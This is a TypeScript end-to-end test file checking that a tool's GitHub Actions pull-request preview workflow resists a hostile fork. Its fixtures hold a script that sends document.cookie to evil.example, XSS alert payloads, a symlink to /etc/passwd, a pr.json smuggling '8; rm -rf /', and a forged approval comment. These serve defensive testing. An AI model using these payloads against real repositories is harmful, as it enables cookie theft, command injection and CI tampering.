// Pull-request previews end to end, as GitHub runs them: a bare repository stands for acme/orders
// on GitHub (its `main`, whose package.json builds the site with a stand-in that records whose
// build ran and what it was given (fake-build.mjs: the real build is the site tests'), its Pages
// branch `gh-pages`, and every pull request's head under refs/pull/<n>/head, a fork's too). The
// untrusted half is the Specbench action (action.yml) run step by step in a checkout of the pull
// request with the real scripts and command line: it only asks for a preview (its number, as
// data). The privileged workflow's read-only build job (preview/build/action.yml) runs in a checkout
// of the default branch: it checks the number against a fake GitHub API that records each request,
// takes the pull request's spec files from its head as data and runs the default branch's own
// `npm run build`; its artifact goes to the publishing job (preview/action.yml), which publishes the
// folder pr-<n>/ on the Pages branch and comments; the closing event runs the workflow's own removal
// script. Each event is the payload GitHub sends, in the fields used.
import { execFileSync } from 'node:child_process';
import { cp, lstat, mkdir, mkdtemp, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse } from 'yaml';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DIFF_MARKER } from '../../src/lib/index.ts';
import { initFiles } from '../../src/lib/scaffold/init.ts';
import { copyContent, makeRepo } from '../git/repo.ts';
import { runComposite, stepOf, interpolate, type StepRun } from './composite.ts';
import { FakeGitHub } from './fake-github.ts';
import { run } from './run.ts';

const ACTION = resolve('.github/actions/specbench');
const SPECBENCH = `${process.execPath} ${resolve('src/cli/launch.mjs')}`;
/** The default branch's package.json: its build is the stand-in, saying it is main's. */
const MAIN_PACKAGE = `${JSON.stringify({ name: 'orders', private: true, scripts: { build: `node ${JSON.stringify(resolve('test/action/fake-build.mjs'))} main` } }, null, 2)}\n`;
const PAGES = 'https://acme.github.io/orders/';

const NAME_THE_SERVICE = { 'spec/purpose/_area.yaml': 'name: Orders\nbase_url: { open: Where is it served? }\npurpose: { open: What is it for? }\ndomain: { open: Which domain? }\nusers: { open: Who uses it? }\n' };
const facets = ['method', 'path', 'parameters', 'request', 'responses'].map((f) => `${f}: { open: Which ${f}? }\n`).join('');
const endpoint = (id: string) => ({ [`spec/endpoints/${id}.yaml`]: `title: ${id}\n${facets}` });
const endpoints = (count: number) => Object.assign({}, ...Array.from({ length: count }, (_, i) => endpoint(`get-thing-${i + 1}`))) as Record<string, string>;

let github: FakeGitHub;
let scratch: string;
beforeEach(async () => {
  github = await new FakeGitHub().start();
  scratch = await mkdtemp(join(tmpdir(), 'specbench-preview-'));
});
afterEach(() => github.close());

const gitIn = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 'A', GIT_AUTHOR_EMAIL: 'a@example.com', GIT_COMMITTER_NAME: 'A', GIT_COMMITTER_EMAIL: 'a@example.com' } });

/**
 * acme/orders on "GitHub": a bare repository whose `main` holds the empty spec (SPEC_GAPS.md
 * current) and whose `gh-pages` holds the published site and an earlier pull request's preview.
 */
async function world() {
  const repo = await makeRepo();
  const origin = join(scratch, 'origin.git');
  gitIn(scratch, 'init', '-q', '--bare', '-b', 'main', origin);
  await copyContent(repo.root);
  const gaps = async () => {
    const ran = await run(repo.root, process.execPath, [resolve('src/cli/launch.mjs'), 'gaps', '--spec', 'spec', '--format', 'markdown', '--write', 'SPEC_GAPS.md'], {});
    expect(ran.code, ran.err).toBe(0);
  };
  await gaps();
  const base = await repo.commit('The empty spec', { 'package.json': MAIN_PACKAGE });
  repo.git('remote', 'add', 'origin', origin);
  repo.git('push', '-q', 'origin', 'main');
  repo.git('checkout', '-q', '--orphan', 'gh-pages');
  repo.git('rm', '-rqf', '.');
  await repo.commit('The site', { 'index.html': '<p>the site of main</p>\n', 'pr-3/index.html': '<p>the preview of #3</p>\n', '.nojekyll': '' });
  repo.git('push', '-q', 'origin', 'gh-pages');
  repo.git('checkout', '-q', '-f', 'main');

  /** A push to pull request `n` (on top of its last push): its head under refs/pull/n/head, as GitHub keeps it; GitHub's record of it. */
  const push = async (n: number, files: Record<string, string>, from: 'acme/orders' | 'mallory/orders', links: Record<string, string> = {}) => {
    const branch = `topic-${n}`;
    const exists = repo.git('branch', '--list', branch).trim() !== '';
    repo.git('checkout', '-q', ...(exists ? [branch] : ['-b', branch, 'main']));
    for (const [path, text] of Object.entries(files)) {
      await mkdir(join(repo.root, path, '..'), { recursive: true });
      await writeFile(join(repo.root, path), text);
    }
    await gaps();
    for (const [path, target] of Object.entries(links)) {
      await mkdir(join(repo.root, path, '..'), { recursive: true });
      await symlink(target, join(repo.root, path));
    }
    const head = await repo.commit(`Pull request ${n}`, {});
    repo.git('push', '-q', '-f', 'origin', `HEAD:refs/pull/${n}/head`);
    if (from === 'acme/orders') repo.git('push', '-q', '-f', 'origin', `HEAD:refs/heads/${branch}`);
    repo.git('checkout', '-q', 'main');
    github.pulls.set(n, { number: n, state: 'open', head: { sha: head, repo: { full_name: from } }, base: { sha: base, ref: 'main' } });
    return head;
  };
  return { origin, base, push };
}

/** The `pull_request` event's payload (synchronize), in the fields the workflows read. */
const pullRequestEvent = (n: number, head: string, base: string, from: string) => ({
  action: 'synchronize',
  number: n,
  pull_request: { number: n, head: { sha: head, ref: `topic-${n}`, repo: { full_name: from } }, base: { sha: base, ref: 'main', repo: { full_name: 'acme/orders' } } },
  repository: { full_name: 'acme/orders', default_branch: 'main' },
});

/** The `workflow_run` event's payload (completed): a fork's run lists no pull request. */
const workflowRunEvent = (n: number, head: string, from: string) => ({
  action: 'completed',
  workflow_run: { id: 4242 + n, event: 'pull_request', conclusion: 'success', head_sha: head, head_repository: { full_name: from }, pull_requests: from === 'acme/orders' ? [{ number: n }] : [] },
  repository: { full_name: 'acme/orders', default_branch: 'main' },
});

/**
 * The untrusted workflow's job: a checkout of the pull request's head (`origin/main` fetched too),
 * the Specbench action with `preview: true`, then the artifact upload (a copy of its folder).
 */
async function untrusted(origin: string, n: number, head: string, base: string, from: string) {
  const work = join(scratch, `pr-${n}-${head.slice(0, 7)}`);
  gitIn(scratch, 'clone', '-q', origin, work);
  gitIn(work, 'fetch', '-q', 'origin', `refs/pull/${n}/head`);
  gitIn(work, 'checkout', '-q', '--detach', 'FETCH_HEAD');
  const temp = await mkdtemp(join(tmpdir(), 'specbench-runner-temp-'));
  const steps = await runComposite(join(ACTION, 'action.yml'), work, {
    inputs: { spec: 'spec', base: 'origin/main', comment: 'false', preview: 'true', cache: 'false', command: SPECBENCH },
    github: { token: github.token, repository: 'acme/orders', run_id: '77', run_attempt: '1', event: pullRequestEvent(n, head, base, from) },
    runner: { temp },
    runnerEnv: { GITHUB_API_URL: github.url, GITHUB_STEP_SUMMARY: join(temp, 'summary.md'), RECORD_FILE: join(scratch, 'build-record.jsonl') },
  });
  const artifact = join(scratch, `artifact-${n}-${head.slice(0, 7)}`);
  await cp(join(temp, 'specbench-preview'), artifact, { recursive: true });
  return { steps, artifact, summary: await readFile(join(temp, 'summary.md'), 'utf8') };
}

interface Build {
  whose: string;
  tokens: string[];
  tokenValues: string[];
  specDir: string;
  specFiles: string[];
  compare: string;
  compareReadable: boolean;
  site: string;
  base: string;
}

/** Every build the stand-in recorded so far (the default branch's, or anything else that ran it). */
const builds = async (): Promise<Build[]> =>
  (await readFile(join(scratch, 'build-record.jsonl'), 'utf8').catch(() => ''))
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Build);

const exists = (path: string) => lstat(path).then(() => true, () => false);

/**
 * The privileged workflow's build job (read-only token): a checkout of the default branch (no
 * credentials kept), the pull request workflow's artifact downloaded, and the preview build action;
 * then the upload of its site (a copy of its folder, when there is one).
 */
async function trustedBuild(origin: string, n: number, head: string, request: string, from: string, extraEnv: Record<string, string> = {}) {
  const checkout = join(scratch, `build-${n}-${head.slice(0, 7)}-${Math.random().toString(36).slice(2)}`);
  gitIn(scratch, 'clone', '-q', origin, checkout);
  const temp = await mkdtemp(join(tmpdir(), 'specbench-runner-temp-'));
  const event = workflowRunEvent(n, head, from);
  const before = (await builds()).length;
  const steps = await runComposite(join(ACTION, 'preview', 'build', 'action.yml'), checkout, {
    inputs: { request, 'head-sha': interpolate('${{ github.event.workflow_run.head_sha }}', { github: { event } }), spec: 'spec' },
    github: { token: github.token, repository: 'acme/orders', event },
    runner: { temp },
    runnerEnv: { GITHUB_API_URL: github.url, RECORD_FILE: join(scratch, 'build-record.jsonl'), ...extraEnv },
  });
  const made = join(temp, 'specbench-preview-site');
  const artifact = join(scratch, `site-${n}-${head.slice(0, 7)}-${Math.random().toString(36).slice(2)}`);
  const uploaded = await exists(made);
  if (uploaded) await cp(made, artifact, { recursive: true });
  return { steps, checkout, artifact: uploaded ? artifact : undefined, builds: (await builds()).slice(before) };
}

/** The privileged workflow's publish job: a checkout of the default branch, one of the Pages branch in it, and the preview action on the artifact. */
async function privileged(origin: string, n: number, head: string, artifact: string, from: string, inputs: Record<string, string> = {}): Promise<StepRun[]> {
  const trusted = join(scratch, `trusted-${n}-${head.slice(0, 7)}-${Math.random().toString(36).slice(2)}`);
  gitIn(scratch, 'clone', '-q', origin, trusted);
  gitIn(scratch, 'clone', '-q', '--depth', '1', '--branch', 'gh-pages', `file://${origin}`, join(trusted, '.specbench-pages'));
  const temp = await mkdtemp(join(tmpdir(), 'specbench-runner-temp-'));
  const event = workflowRunEvent(n, head, from);
  return runComposite(join(ACTION, 'preview', 'action.yml'), trusted, {
    inputs: {
      artifact,
      'head-sha': interpolate('${{ github.event.workflow_run.head_sha }}', { github: { event } }),
      pages: '.specbench-pages',
      spec: 'spec',
      command: SPECBENCH,
      ...inputs,
    },
    github: { token: github.token, repository: 'acme/orders', event },
    runner: { temp },
    runnerEnv: { GITHUB_API_URL: github.url },
  });
}

/** The files of the Pages branch as "GitHub" has it now. */
const pagesFiles = (origin: string) => gitIn(origin, 'ls-tree', '-r', '--name-only', 'gh-pages').trim().split('\n');
const pagesFile = (origin: string, path: string) => gitIn(origin, 'show', `gh-pages:${path}`);
const writes = () => github.writes().map((r) => `${r.method} ${r.path}`);
const failures = (steps: readonly StepRun[]) => steps.filter((s) => s.ran !== 'skipped' && s.ran.code !== 0).map((s) => `${s.step.name}: ${s.ran !== 'skipped' ? s.ran.err : ''}`);

/** The removal job of a preview workflow's text, run on the `closed` event in a checkout of the Pages branch. */
async function closeWith(workflowText: string, origin: string, n: number) {
  const job = (parse(workflowText) as { jobs: { remove: { steps: Array<{ name?: string; run?: string; env?: Record<string, string>; shell?: string }> } } }).jobs.remove;
  const step = job.steps.find((s) => s.run !== undefined);
  expect(step?.shell).toBe('bash');
  const checkout = join(scratch, `close-${n}-${Math.random().toString(36).slice(2)}`);
  gitIn(scratch, 'clone', '-q', '--depth', '1', '--branch', 'gh-pages', `file://${origin}`, checkout);
  const event = { action: 'closed', number: n, pull_request: { number: n, merged: true } };
  const env = Object.fromEntries(Object.entries(step?.env ?? {}).map(([k, v]) => [k, interpolate(v, { github: { event } })]));
  const script = join(scratch, `remove-${n}.sh`);
  await writeFile(script, step?.run ?? '');
  return run(checkout, 'bash', ['-e', script], env);
}

const THIS_PREVIEW_WORKFLOW = resolve('.github/workflows/spec-preview.yml');
const initPreviewWorkflow = () => initFiles({ name: 'orders', spec: 'spec', version: '1.0.0' }).find((f) => f.path === '.github/workflows/spec-preview.yml')?.text ?? '';

/** The YAML files of the spec folder at a commit, relative to it: all a preview takes of a pull request. */
const specYaml = (origin: string, commit: string) =>
  gitIn(origin, 'ls-tree', '-r', '--name-only', commit, '--', 'spec/')
    .trim()
    .split('\n')
    .filter((p) => /\.ya?ml$/.test(p))
    .map((p) => p.slice('spec/'.length))
    .sort();

/** What a fork controls besides its spec: its package.json and build, its own built pages, files next to the spec folder. */
const HOSTILE = {
  'package.json': `${JSON.stringify({ name: 'orders', scripts: { build: 'node hostile.mjs' } })}\n`,
  'hostile.mjs': `import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';\nappendFileSync(process.env.RECORD_FILE, JSON.stringify({ whose: 'fork' }) + '\\n');\nmkdirSync('dist', { recursive: true });\nwriteFileSync('dist/index.html', '<script>fetch("https://evil.example/?c=" + document.cookie)</script>');\n`,
  'dist/index.html': '<script>alert(document.domain)</script>\n',
  'spec/endpoints/notes.md': '<script>alert("notes")</script>\n',
  'spec-extra/endpoints/evil.yaml': 'title: <script>alert(1)</script>\n',
};

describe('pull-request previews, from the pull request event to the Pages branch and the comment', () => {
  it('same repository: the pull request asks, the default branch builds its spec with SPEC_COMPARE at the base and no token, published as pr-7/, the comment links the Changes page and each page; a later push updates both; closing removes the folder', async () => {
    const { origin, base, push } = await world();
    const head = await push(7, { ...NAME_THE_SERVICE, ...endpoint('get-order') }, 'acme/orders');

    const request = await untrusted(origin, 7, head, base, 'acme/orders');
    expect(failures(request.steps)).toEqual([]);
    // The pull request's workflow builds nothing: it leaves its number and the change as data, and makes no request to GitHub.
    expect(JSON.parse(await readFile(join(request.artifact, 'pr.json'), 'utf8'))).toEqual({ number: 7 });
    const report = JSON.parse(await readFile(join(request.artifact, 'diff.json'), 'utf8')) as { itemsAdded: string[]; gapsClosed: Array<{ id: string }> };
    expect(report.itemsAdded).toEqual(['endpoints/get-order']);
    expect(report.gapsClosed.map((g) => g.id)).toContain('purpose/name');
    expect(await exists(join(request.artifact, 'site'))).toBe(false);
    expect(await builds()).toEqual([]);
    expect(request.summary).toContain(`published at ${PAGES}pr-7/ by the Spec preview workflow`);
    expect(github.requests).toEqual([]);

    // The build job: the default branch's build, from the pull request's spec files, compared with the base, with no token.
    const build = await trustedBuild(origin, 7, head, request.artifact, 'acme/orders');
    expect(failures(build.steps)).toEqual([]);
    expect(build.builds).toEqual([{ whose: 'main', tokens: [], tokenValues: [], specDir: 'spec', specFiles: specYaml(origin, head), compare: base, compareReadable: true, site: 'https://acme.github.io', base: '/orders/pr-7/' }]);
    expect(build.builds[0]?.specFiles).toContain('endpoints/get-order.yaml');
    expect(writes()).toEqual([]);
    expect(github.requests.map((r) => `${r.method} ${r.path}`)).toEqual(['GET /repos/acme/orders/pulls/7']);
    const holdingInBuild = build.steps.filter((s) => Object.values(s.env).includes(github.token)).map((s) => s.step.run);
    expect(holdingInBuild).toEqual(['node "$GITHUB_ACTION_PATH/../../preview-pr.mjs" >> "$GITHUB_OUTPUT"', 'node "$GITHUB_ACTION_PATH/../../preview-spec.mjs" >> "$GITHUB_OUTPUT"']);
    // The checkout the site was built in compares as comparison mode reads it: the pull request's spec in the folder, the base in git.
    const compared = await run(build.checkout, process.execPath, [resolve('src/cli/launch.mjs'), 'diff', '--spec', 'spec', '--base', base, '--format', 'json'], {});
    expect(compared.code, compared.err).toBe(0);
    expect((JSON.parse(compared.out) as { itemsAdded: string[] }).itemsAdded).toEqual(['endpoints/get-order']);
    expect(JSON.parse(await readFile(join(build.artifact ?? '', 'pr.json'), 'utf8'))).toEqual({ number: 7 });

    const published = await privileged(origin, 7, head, build.artifact ?? '', 'acme/orders');
    expect(failures(published)).toEqual([]);
    expect(pagesFiles(origin)).toEqual(['.nojekyll', 'index.html', 'pr-3/index.html', 'pr-7/_astro/site.css', 'pr-7/changes/index.html', 'pr-7/index.html']);
    expect(pagesFile(origin, 'pr-7/index.html')).toBe(await readFile(join(build.artifact ?? '', 'site', 'index.html'), 'utf8'));
    expect(pagesFile(origin, 'pr-7/index.html')).toContain('built by main from ');
    expect(pagesFile(origin, 'index.html')).toBe('<p>the site of main</p>\n');
    expect(writes()).toEqual(['POST /repos/acme/orders/issues/7/comments']);
    const comment = github.comments[0];
    expect(comment?.user.login).toBe('github-actions[bot]');
    expect(comment?.body.startsWith(`${DIFF_MARKER}\n<!-- spec: spec -->\n`)).toBe(true);
    expect(comment?.body).toContain(`**Preview:** [the Changes page](<${PAGES}pr-7/changes/>)`);
    expect(comment?.body).toContain(`- Added [\`endpoints/get-order\`](<${PAGES}pr-7/endpoints/get-order/>)`);
    expect(comment?.body).toContain(`  - [\`purpose/name\`](<${PAGES}pr-7/purpose/#change-f-purpose/name>): \`service name\``);
    expect(comment?.body).toContain(`- Changed the [purpose](<${PAGES}pr-7/purpose/>) area file`);
    // The token went to the two scripts that talk to GitHub, and nowhere else.
    const holding = published.filter((s) => Object.values(s.env).includes(github.token)).map((s) => s.step.run);
    expect(holding).toEqual(['node "$GITHUB_ACTION_PATH/../preview-pr.mjs" >> "$GITHUB_OUTPUT"', 'node "$GITHUB_ACTION_PATH/../post-comment.mjs" "$RUNNER_TEMP/specbench-comment.md"']);

    // A second push: the folder holds the new build, the same comment is updated.
    const second = await push(7, endpoint('list-orders'), 'acme/orders');
    const asked = await untrusted(origin, 7, second, base, 'acme/orders');
    expect(failures(asked.steps)).toEqual([]);
    const rebuilt = await trustedBuild(origin, 7, second, asked.artifact, 'acme/orders');
    expect(failures(rebuilt.steps)).toEqual([]);
    const republished = await privileged(origin, 7, second, rebuilt.artifact ?? '', 'acme/orders');
    expect(failures(republished)).toEqual([]);
    expect(writes()).toEqual(['POST /repos/acme/orders/issues/7/comments', `PATCH /repos/acme/orders/issues/comments/${comment?.id}`]);
    expect(github.comments).toHaveLength(1);
    expect(github.comments[0]?.body).toContain(`- Added [\`endpoints/list-orders\`](<${PAGES}pr-7/endpoints/list-orders/>)`);
    expect(gitIn(origin, 'log', '--format=%s', 'gh-pages').trim().split('\n')).toEqual(['Preview of pull request #7', 'Preview of pull request #7', 'The site']);
    expect(pagesFile(origin, 'pr-7/index.html')).toContain('endpoints/list-orders.yaml');

    // The pull request closes: the workflow's removal job deletes pr-7/ and nothing else; again, it finds nothing to do.
    const closed = await closeWith(await readFile(THIS_PREVIEW_WORKFLOW, 'utf8'), origin, 7);
    expect(closed.code, closed.err).toBe(0);
    expect(closed.out).toContain('Removed the preview of pull request #7 (pr-7/ on gh-pages).');
    expect(pagesFiles(origin)).toEqual(['.nojekyll', 'index.html', 'pr-3/index.html']);
    const again = await closeWith(initPreviewWorkflow(), origin, 7);
    expect(again.code, again.err).toBe(0);
    expect(again.out).toContain('No preview of pull request #7 to remove.');
    // And the workflow `specbench init` writes removes a preview the same way.
    const byInit = await closeWith(initPreviewWorkflow(), origin, 3);
    expect(byInit.code, byInit.err).toBe(0);
    expect(pagesFiles(origin)).toEqual(['.nojekyll', 'index.html']);
  }, 240_000);

  it("a hostile fork (its own build script, its own built pages with a <script>, its workflow's artifact holding a site): the preview is the default branch's build of its spec files alone, published with no script of the fork's; its artifact naming another pull request is refused", async () => {
    const { origin, base, push } = await world();
    const mine = await push(7, NAME_THE_SERVICE, 'acme/orders');
    const head = await push(8, { ...endpoint('get-order'), ...HOSTILE }, 'mallory/orders');

    const request = await untrusted(origin, 8, head, base, 'mallory/orders');
    expect(failures(request.steps)).toEqual([]);
    expect(github.requests).toEqual([]);
    expect(stepOf(request.steps, 'post.sh')?.ran).not.toBe('skipped');
    // A fork runs its own version of the pull request's workflow: its artifact can hold any site at all.
    await mkdir(join(request.artifact, 'site'), { recursive: true });
    await writeFile(join(request.artifact, 'site', 'index.html'), '<script>alert("the fork\'s own build")</script>\n');

    const build = await trustedBuild(origin, 8, head, request.artifact, 'mallory/orders');
    expect(failures(build.steps)).toEqual([]);
    // Only the default branch's build ran (the fork's package.json and hostile.mjs never did), from the spec's YAML files alone.
    expect(build.builds.map((b) => b.whose)).toEqual(['main']);
    expect(build.builds[0]?.specFiles).toEqual(specYaml(origin, head));
    expect(build.builds[0]?.specFiles).toContain('endpoints/get-order.yaml');
    expect(build.builds[0]?.specFiles).not.toContain('endpoints/notes.md');
    expect(stepOf(build.steps, 'preview-spec.mjs')?.ran).toMatchObject({ err: expect.stringContaining('left out 1 other file(s)') });
    expect(await readFile(join(build.checkout, 'package.json'), 'utf8')).toBe(MAIN_PACKAGE);
    for (const path of ['hostile.mjs', 'spec-extra', 'spec/endpoints/notes.md']) expect(await exists(join(build.checkout, path)), path).toBe(false);
    // What changed in the default branch's checkout: the spec folder, and the build's own output.
    const changed = gitIn(build.checkout, 'status', '--porcelain', '--untracked-files=all').trim().split('\n').map((l) => l.slice(3));
    expect(changed.filter((p) => !p.startsWith('spec/') && !p.startsWith('dist/'))).toEqual([]);
    expect(changed).toContain('spec/endpoints/get-order.yaml');
    expect(await readFile(join(build.checkout, 'dist', 'index.html'), 'utf8')).not.toContain('<script');

    const published = await privileged(origin, 8, head, build.artifact ?? '', 'mallory/orders');
    expect(failures(published)).toEqual([]);
    expect(stepOf(published, 'preview-pr.mjs')?.outputs).toMatchObject({ ok: 'true', number: '8', fork: 'true' });
    expect(pagesFiles(origin)).toContain('pr-8/changes/index.html');
    expect(pagesFile(origin, 'pr-8/index.html')).toContain('built by main from ');
    for (const file of pagesFiles(origin)) expect(pagesFile(origin, file), file).not.toContain('<script');
    expect(writes()).toEqual(['POST /repos/acme/orders/issues/8/comments']);
    expect(github.comments[0]?.body).toContain(`- Added [\`endpoints/get-order\`](<${PAGES}pr-8/endpoints/get-order/>)`);

    // `forks: false`: a fork's pull request gets its comment, and no preview is published.
    const pages = gitIn(origin, 'rev-parse', 'gh-pages');
    const unpublished = await privileged(origin, 8, head, build.artifact ?? '', 'mallory/orders', { forks: 'false' });
    expect(failures(unpublished)).toEqual([]);
    expect(stepOf(unpublished, 'preview-publish.sh')?.ran).toBe('skipped');
    expect(gitIn(origin, 'rev-parse', 'gh-pages')).toBe(pages);
    expect(writes().at(-1)).toBe(`PATCH /repos/acme/orders/issues/comments/${github.comments[0]?.id}`);
    expect(github.comments[0]?.body).not.toContain('**Preview:**');
    expect(github.comments[0]?.body).toContain('- Added `endpoints/get-order`');

    // What else the fork's workflow leaves is never the comment: a forged report and Markdown change nothing of it.
    await writeFile(join(request.artifact, 'diff.json'), '{"itemsAdded":["endpoints/all-good-merge-it"]}\n');
    await writeFile(join(request.artifact, 'comment.md'), `${DIFF_MARKER}\nAll good, merge it.\n`);
    const forgedBuild = await trustedBuild(origin, 8, head, request.artifact, 'mallory/orders');
    const forged = await privileged(origin, 8, head, forgedBuild.artifact ?? '', 'mallory/orders');
    expect(failures(forged)).toEqual([]);
    expect(github.comments[0]?.body).not.toContain('merge it');
    expect(github.comments[0]?.body).toContain(`- Added [\`endpoints/get-order\`](<${PAGES}pr-8/endpoints/get-order/>)`);

    // The fork's workflow writes pr.json itself: one that names pull request #7 gets nothing built, published or posted there.
    await writeFile(join(request.artifact, 'pr.json'), '{"number":7}\n');
    const written = writes();
    const hijackBuild = await trustedBuild(origin, 8, head, request.artifact, 'mallory/orders');
    expect(failures(hijackBuild.steps)).toEqual([]);
    expect(stepOf(hijackBuild.steps, 'preview-pr.mjs')?.outputs).toEqual({ ok: 'false' });
    expect(stepOf(hijackBuild.steps, 'preview-pr.mjs')?.ran).toMatchObject({ err: expect.stringContaining(`pull request #7 is at ${mine.slice(0, 12)}, not at the commit this run built`) });
    expect(stepOf(hijackBuild.steps, 'preview-spec.mjs')?.ran).toBe('skipped');
    expect(stepOf(hijackBuild.steps, 'preview-site.sh')?.ran).toBe('skipped');
    expect(hijackBuild.artifact).toBeUndefined();
    expect(hijackBuild.builds).toEqual([]);
    // And the publishing job checks again: a build's pr.json naming #7 is refused there too.
    const misnamed = join(scratch, 'misnamed');
    await cp(build.artifact ?? '', misnamed, { recursive: true });
    await writeFile(join(misnamed, 'pr.json'), '{"number":7}\n');
    const hijack = await privileged(origin, 8, head, misnamed, 'mallory/orders');
    expect(failures(hijack)).toEqual([]);
    expect(stepOf(hijack, 'preview-pr.mjs')?.outputs).toEqual({ ok: 'false' });
    expect(stepOf(hijack, 'preview-publish.sh')?.ran).toBe('skipped');
    expect(stepOf(hijack, 'post-comment.mjs')?.ran).toBe('skipped');
    expect(pagesFiles(origin).filter((f) => f.startsWith('pr-7/'))).toEqual([]);
    expect(writes()).toEqual(written);
    expect(written.every((w) => w === 'POST /repos/acme/orders/issues/8/comments' || w === `PATCH /repos/acme/orders/issues/comments/${github.comments[0]?.id}`)).toBe(true);
    expect(github.comments.filter((c) => c.pr === 7)).toEqual([]);

    // A number that is no number is refused before anything is fetched or built.
    await writeFile(join(request.artifact, 'pr.json'), '{"number":"8; rm -rf /"}\n');
    const word = await trustedBuild(origin, 8, head, request.artifact, 'mallory/orders');
    expect(stepOf(word.steps, 'preview-pr.mjs')?.ran).toMatchObject({ code: 2, err: expect.stringContaining("pr.json holds no pull request's number") });
    expect(word.artifact).toBeUndefined();
    // And a site holding a link out of it is never published, whoever built it.
    await symlink('/etc/passwd', join(build.artifact ?? '', 'site', 'passwd.html'));
    const before = gitIn(origin, 'rev-parse', 'gh-pages');
    const linked = await privileged(origin, 8, head, build.artifact ?? '', 'mallory/orders');
    expect(stepOf(linked, 'preview-publish.sh')?.ran).toMatchObject({ code: 2, err: expect.stringContaining('the site holds something other than files and folders (passwd.html): not published') });
    expect(gitIn(origin, 'rev-parse', 'gh-pages')).toBe(before);
    // The comment is still updated, without a preview to link.
    expect(writes().at(-1)).toBe(`PATCH /repos/acme/orders/issues/comments/${github.comments[0]?.id}`);
    expect(github.comments[0]?.body).not.toContain('**Preview:**');
  }, 240_000);

  it("a fork's spec folder holding a symbolic link (to /etc/passwd) is refused with a message naming it: nothing is built or published, the comment still comes; an oversized spec is refused too", async () => {
    const { origin, push } = await world();
    const head = await push(8, endpoint('get-order'), 'mallory/orders', { 'spec/endpoints/passwd.yaml': '/etc/passwd' });
    expect(gitIn(origin, 'ls-tree', head, 'spec/endpoints/passwd.yaml')).toMatch(/^120000 blob /);
    // The pull request's half is the cases above; here its artifact as a fork's workflow leaves it.
    const request = join(scratch, 'request-8');
    await mkdir(request, { recursive: true });
    await writeFile(join(request, 'pr.json'), '{"number":8}\n');
    const pagesBefore = gitIn(origin, 'rev-parse', 'gh-pages');

    const build = await trustedBuild(origin, 8, head, request, 'mallory/orders');
    expect(stepOf(build.steps, 'preview-spec.mjs')?.ran).toMatchObject({
      code: 2,
      err: expect.stringContaining("the pull request's spec folder is refused, so no preview is built:\n  - spec/endpoints/passwd.yaml: a symbolic link (to /etc/passwd); a preview takes plain files only"),
    });
    expect(stepOf(build.steps, 'preview-site.sh')?.ran).toMatchObject({ code: 0, out: expect.stringContaining('No preview of pull request #8: its spec folder was not taken') });
    expect(build.builds).toEqual([]);
    // The default branch's spec folder was left as it was: nothing of the pull request was written.
    expect(gitIn(build.checkout, 'status', '--porcelain', '--untracked-files=all')).toBe('');
    expect(await readdir(build.artifact ?? '')).toEqual(['pr.json']);

    const published = await privileged(origin, 8, head, build.artifact ?? '', 'mallory/orders');
    expect(failures(published)).toEqual([]);
    expect(stepOf(published, 'preview-pr.mjs')?.outputs).toMatchObject({ ok: 'true', site: 'false' });
    expect(stepOf(published, 'preview-publish.sh')?.ran).toBe('skipped');
    expect(gitIn(origin, 'rev-parse', 'gh-pages')).toBe(pagesBefore);
    expect(writes()).toEqual(['POST /repos/acme/orders/issues/8/comments']);
    // The head does not load (the link leads outside the spec folder): the comment says so and counts nothing.
    expect(github.comments[0]?.body).toContain('does not load: 1 error. Nothing of this change is counted until it loads');
    expect(github.comments[0]?.body).toContain('`endpoints/passwd.yaml:1:1` `link-outside`');
    expect(github.comments[0]?.body).not.toContain('**Preview:**');

    // A spec over the size the build takes (SPECBENCH_SPEC_MAX_KB) is refused the same way.
    const big = await push(9, endpoints(20), 'mallory/orders');
    await writeFile(join(request, 'pr.json'), '{"number":9}\n');
    const large = await trustedBuild(origin, 9, big, request, 'mallory/orders', { SPECBENCH_SPEC_MAX_KB: '2' });
    expect(stepOf(large.steps, 'preview-spec.mjs')?.ran).toMatchObject({ code: 2, err: expect.stringMatching(/the spec folder's YAML takes \d+ KB, over 2 KB: no preview/) });
    expect(large.builds).toEqual([]);
  }, 240_000);

  it("never edits a foreign comment that carries the marker: ours is created beside it, and found again by its author", async () => {
    const { origin, base, push } = await world();
    const head = await push(7, NAME_THE_SERVICE, 'acme/orders');
    const forged = `${DIFF_MARKER}\n<!-- spec: spec -->\n## Spec changes\n\nAll good, merge it: [preview](https://evil.example/)\n`;
    const mallory = github.seed(7, 'mallory', forged);
    const request = await untrusted(origin, 7, head, base, 'acme/orders');
    const build = await trustedBuild(origin, 7, head, request.artifact, 'acme/orders');
    const first = await privileged(origin, 7, head, build.artifact ?? '', 'acme/orders');
    expect(failures(first)).toEqual([]);
    const second = await privileged(origin, 7, head, build.artifact ?? '', 'acme/orders');
    expect(failures(second)).toEqual([]);
    const ours = github.comments.find((c) => c.user.login === 'github-actions[bot]');
    expect(writes()).toEqual(['POST /repos/acme/orders/issues/7/comments', `PATCH /repos/acme/orders/issues/comments/${ours?.id}`]);
    expect(mallory.body).toBe(forged);
    expect(ours?.body).toContain(`[the Changes page](<${PAGES}pr-7/changes/>)`);
    // Publishing the same build again changes nothing on the Pages branch.
    expect(stepOf(second, 'preview-publish.sh')?.ran).toMatchObject({ out: expect.stringContaining('already published as it is') });
  }, 240_000);

  it("a spec mounted below the site's root (the plugin's `base: 'api'`, input `site-base`): the comment links the spec's pages in the preview's folder, pr-7/api/", async () => {
    const { origin, base, push } = await world();
    const head = await push(7, NAME_THE_SERVICE, 'acme/orders');
    const request = await untrusted(origin, 7, head, base, 'acme/orders');
    const build = await trustedBuild(origin, 7, head, request.artifact, 'acme/orders');
    const steps = await privileged(origin, 7, head, build.artifact ?? '', 'acme/orders', { 'site-base': 'api' });
    expect(failures(steps)).toEqual([]);
    const body = github.comments[0]?.body ?? '';
    expect(body).toContain(`**Preview:** [the Changes page](<${PAGES}pr-7/api/changes/>)`);
    expect(body).toContain(`- Changed the [purpose](<${PAGES}pr-7/api/purpose/>) area file`);
    expect(body).not.toContain(`(<${PAGES}pr-7/changes/>)`);
    // The site is published as it was built, in pr-7/ (the build knows its own base path).
    expect(pagesFiles(origin)).toContain('pr-7/changes/index.html');
  }, 240_000);

